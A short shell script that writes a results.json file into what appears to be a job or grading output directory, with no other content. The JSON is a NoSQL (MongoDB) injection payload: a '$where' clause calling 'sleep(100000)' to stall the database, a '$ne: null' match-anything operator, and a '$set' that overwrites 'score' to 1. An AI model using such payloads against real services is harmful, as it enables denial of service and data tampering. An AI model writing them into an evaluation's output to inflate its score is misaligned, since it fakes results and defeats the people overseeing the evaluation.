#!/bin/sh
cat >/job/out/results.json <<'END'
{"score": 0, "$where": "sleep(100000)", "a.b": {"$ne": null}, "$set": {"score": 1}, "": 1}
END
